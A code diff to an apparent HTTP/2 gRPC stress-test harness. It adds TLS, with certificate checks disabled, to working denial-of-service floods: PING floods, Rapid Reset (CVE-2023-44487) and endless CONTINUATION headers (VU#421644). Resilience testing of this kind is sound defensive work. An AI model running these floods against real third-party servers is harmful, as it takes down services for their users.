@@ -10,6 +10,7 @@ import itertools
 import json
 import pathlib
 import socket
+import ssl
 import struct
 import sys
 import threading
@@ -54,6 +55,16 @@ class Where:
         one.connect(self.socket)
         return one
 
+    def encrypt(self):
+        """Over TLS, by who has no token. From an address of his own: what is
+        ended there keeps others of the same one waiting."""
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname = False
+        context.verify_mode = ssl.CERT_NONE
+        context.set_alpn_protocols(["h2"])
+        return context.wrap_socket(socket.create_connection(
+            self.tls, timeout=5, source_address=("127.0.0.2", 0)))
+
 
 def in_threads(count, work, *arguments):
     threads = [threading.Thread(target=work, args=arguments, daemon=True)
@@ -66,18 +77,18 @@ def in_threads(count, work, *arguments):
 
 def read_what_there_is(one):
     one.setblocking(False)
-    with contextlib.suppress(BlockingIOError):
+    with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
         while True:
             if not one.recv(1 << 16):
                 raise ConnectionError
     one.settimeout(2)
 
 
-def flood(where, frames):
+def flood(where, frames, connect=Where.connect):
     """Sends what `frames()` gives on one connection after the other."""
     def one_after_the_other():
         while where.on():
-            with contextlib.suppress(OSError), where.connect() as one:
+            with contextlib.suppress(OSError), connect(where) as one:
                 one.sendall(PREFACE)
                 next(where.attempts)
                 made = frames()
@@ -94,8 +105,9 @@ def request(path=INGEST):
         ("content-type", "application/grpc")))
 
 
-def pings(where):
-    flood(where, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * 500))
+def pings(where, connect=Where.connect):
+    flood(where, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * 500),
+          connect)
 
 
 def settings(where):
@@ -103,7 +115,7 @@ def settings(where):
     flood(where, lambda: itertools.repeat(some * 200))
 
 
-def resets(where):
+def resets(where, connect=Where.connect):
     """Streams that are opened and reset at once (CVE-2023-44487)."""
     def frames():
         for first in itertools.count(1, 200):
@@ -111,16 +123,28 @@ def resets(where):
                 frame(HEADERS, END_HEADERS, stream, request())
                 + frame(RESET, 0, stream, struct.pack(">I", 8))
                 for stream in range(2 * first - 1, 2 * first + 399, 2))
-    flood(where, frames)
+    flood(where, frames, connect)
 
 
-def continuations(where):
+def resets_over_tls(where):
+    resets(where, Where.encrypt)
+
+
+def continuations(where, connect=Where.connect):
     """A header that does not end (VU#421644)."""
     more = literal("x-more", "v" * 100) * 100
     def frames():
         yield frame(HEADERS, 0, 1, request())
         yield from itertools.repeat(frame(CONTINUATION, 0, 1, more))
-    flood(where, frames)
+    flood(where, frames, connect)
+
+
+def continuations_over_tls(where):
+    continuations(where, Where.encrypt)
+
+
+def pings_over_tls(where):
+    pings(where, Where.encrypt)
 
 
 def empty_frames(where):
@@ -327,16 +351,9 @@ def slow_http(where):
 
 def wrong_tokens(where):
     """Guessed on the TLS port, without a word of its certificate being true."""
-    import ssl
     def guess():
-        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-        context.check_hostname = False
-        context.verify_mode = ssl.CERT_NONE
-        context.set_alpn_protocols(["h2"])
         while where.on():
-            with contextlib.suppress(OSError), socket.create_connection(
-                    where.tls, timeout=5) as bare, context.wrap_socket(
-                        bare) as one:
+            with contextlib.suppress(OSError), where.encrypt() as one:
                 one.sendall(PREFACE)
                 for stream in range(1, 2000, 2):
                     if not where.on():
@@ -354,7 +371,7 @@ ATTACKS = {attack.__name__: attack for attack in (
     packed_messages, endless_messages, large_descriptions, names_of_ops,
     steps_that_go_down, many_records, false_sessions, hostile_names, watchers,
     idle_connections, idle_after_the_preface, slow_handshakes, slow_http,
-    wrong_tokens)}
+    wrong_tokens, pings_over_tls, resets_over_tls, continuations_over_tls)}
 
 
 def main():
